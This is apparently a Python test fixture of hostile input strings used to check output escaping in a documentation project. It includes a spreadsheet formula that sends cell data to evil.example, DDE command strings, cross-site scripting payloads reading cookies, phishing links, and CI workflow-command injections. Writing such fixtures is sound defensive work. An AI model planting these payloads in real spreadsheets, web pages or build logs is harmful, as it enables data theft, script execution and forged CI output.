"""Hostile strings for every output context: what a pull request to a documentation
project can put into any text field. Shared by the escaper tests and the end-to-end runs.

Each is (id, text); the ids name what the string attacks.
"""

from __future__ import annotations

FORMULAS = [
    ("formula-equals", '=HYPERLINK("http://evil.example/?"&A1,"Click")'),
    ("formula-plus", "+cmd|' /C calc'!A0"),
    ("formula-at", "@SUM(1+9)*cmd|' /C calc'!A0"),
    ("formula-minus", "-2+3"),
    ("formula-tab", "\t=1+1"),
    ("formula-cr", "\r=1+1"),
    ("formula-after-blanks", "   =1+1"),
    ("formula-after-newline", "\n=1+1"),
]

MARKUP = [
    ("script", "<script>alert(1)</script>"),
    ("img-onerror", "<img src=x onerror=alert(1)>"),
    ("javascript-url", "javascript:alert(document.cookie)"),
    ("javascript-url-tab", "java\tscript:alert(1)"),
    ("phishing-link", "[Log in](https://evil.example/login)"),
    ("md-image", "![x](https://evil.example/p.png)"),
    ("autolink-break", "https://a.example/x|![i](https://evil.example/p.png)"),
    ("paren-break", "https://a.example/x)![i](https://evil.example/p.png"),
    ("angle-break", "https://a.example/x><img src=x onerror=alert(1)>"),
    ("cdata-end", "]]><x/>"),
    ("ampersand-entity", "&amp; &lt;b&gt; & &#60;"),
    ("quotes", '"\' onmouseover="alert(1)'),
    ("pipe", "a | b | c"),
]

CONTROL = [
    ("newline-workflow-error", "ok\n::error file=x::pwned"),
    ("crlf-workflow-error", "ok\r\n::error file=x::pwned"),
    ("cr-workflow-error", "ok\r::warning::pwned"),
    ("stop-commands", "ok\n::stop-commands::tok"),
    ("leading-workflow-command", "::error file=x::pwned"),
    ("ansi-escape", "\x1b[31mred\x1b[0m"),
    ("nul", "a\x00b"),
    ("bell-and-backspace", "a\x07\x08b"),
    ("u-fffe", "a\ufffeb"),
    ("u-ffff", "a\uffffb"),
    ("lone-surrogate", "a\ud800b"),
    ("bidi-override", "Lumen\u202e2-esaB"),
    ("line-separator", "a\u2028::error::pwned"),
    ("very-long", "<b>" + "x" * 100_000 + "</b>"),
]

ALL = FORMULAS + MARKUP + CONTROL
IDS = [name for name, _ in ALL]
TEXTS = [text for _, text in ALL]

# What a spreadsheet reads as the start of a formula (OWASP), also after leading blanks.
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
